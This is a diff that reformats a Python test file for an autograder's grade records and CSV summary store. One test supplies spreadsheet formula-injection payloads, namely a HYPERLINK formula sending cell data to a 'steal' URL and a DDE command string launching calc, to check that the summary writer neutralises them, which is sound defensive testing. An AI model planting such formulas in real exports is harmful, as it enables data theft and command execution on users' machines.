@@ -5,10 +5,10 @@ from __future__ import annotations
 import json
 
 from grader.core.course import load_course
-from grader.engine.record import FORMAT, GradeRecord
-from grader.engine.store import ResultStore
 from grader.core.results import SubmissionResult, score_function
 from grader.core.results import TestOutcome as Outcome
+from grader.engine.record import FORMAT, GradeRecord
+from grader.engine.store import ResultStore
 from tests.helpers import ROOT
 
 COURSE = load_course(ROOT, check_files=False)
@@ -16,24 +16,33 @@ COURSE = load_course(ROOT, check_files=False)
 
 def a_record() -> GradeRecord:
     functions = {
-        "gae_advantages": score_function(COURSE, "gae_advantages", [Outcome("a", True, 1.0, ""),
-                                                                     Outcome("b", False, 2.0, "why")], None),
+        "gae_advantages": score_function(
+            COURSE, "gae_advantages", [Outcome("a", True, 1.0, ""), Outcome("b", False, 2.0, "why")], None
+        ),
         "stable_softmax": score_function(COURSE, "stable_softmax", [], "not defined"),
     }
     result = SubmissionResult(submission="ignored", functions=functions, elapsed=1.23456)
-    return GradeRecord("alice", "alice/ps4b", result, course=COURSE.id, submission_hash="s" * 64,
-                       course_hash="c" * 64, grader="tcp://10.0.0.1:1234", sandbox="bubblewrap sandbox",
-                       limits=[{"function": "gae_advantages", "kind": "time limit", "detail": "x"}])
+    return GradeRecord(
+        "alice",
+        "alice/ps4b",
+        result,
+        course=COURSE.id,
+        submission_hash="s" * 64,
+        course_hash="c" * 64,
+        grader="tcp://10.0.0.1:1234",
+        sandbox="bubblewrap sandbox",
+        limits=[{"function": "gae_advantages", "kind": "time limit", "detail": "x"}],
+    )
 
 
 def test_a_record_survives_its_json_form_and_the_store(tmp_path):
     record = a_record()
     data = record.to_json()
     assert data["format"] == FORMAT and data["submission"] == data["result"]["submission"] == "alice/ps4b"
-    assert data["assignments"] == {"ps4b": {"score": record.result.functions["gae_advantages"].score,
-                                            "max": 5.0, "functions": ["gae_advantages"]},
-                                   "ps4a": {"score": 0.0, "max": COURSE.exercise("stable_softmax").points,
-                                            "functions": ["stable_softmax"]}}
+    assert data["assignments"] == {
+        "ps4b": {"score": record.result.functions["gae_advantages"].score, "max": 5.0, "functions": ["gae_advantages"]},
+        "ps4a": {"score": 0.0, "max": COURSE.exercise("stable_softmax").points, "functions": ["stable_softmax"]},
+    }
     again = GradeRecord.from_json(json.loads(json.dumps(data)))
     assert again.to_json() == data
     assert again.result.functions["gae_advantages"].assignment == "ps4b"
@@ -61,8 +70,9 @@ def test_summary_csv_cells_are_never_formulas(tmp_path):
     import csv
     import dataclasses
 
-    record = dataclasses.replace(a_record(), grader='=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"x")',
-                                 graded_at="@SUM(1+1)*cmd|' /C calc'!A0")
+    record = dataclasses.replace(
+        a_record(), grader='=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"x")', graded_at="@SUM(1+1)*cmd|' /C calc'!A0"
+    )
     store = ResultStore(tmp_path)
     rows = list(csv.DictReader(store.write_summary(COURSE, [record]).open(encoding="utf-8")))
     assert rows[0]["graded_by"] == "'" + record.grader and rows[0]["graded_at"] == "'" + record.graded_at
@@ -75,7 +85,6 @@ def test_a_student_id_never_ends_in_a_newline(tmp_path):
     # file "bob\n.py" beside bob.py was graded as a student of its own, shown as "bob" in the report.
     from grader.classgrade.run import discover_submissions
     from grader.engine.store import SAFE_ID
-
     from grader.notebooks.extract import CELL_ID, CHECKSUM, GRADE_ID
 
     assert SAFE_ID.match("bob") and not SAFE_ID.match("bob\n")
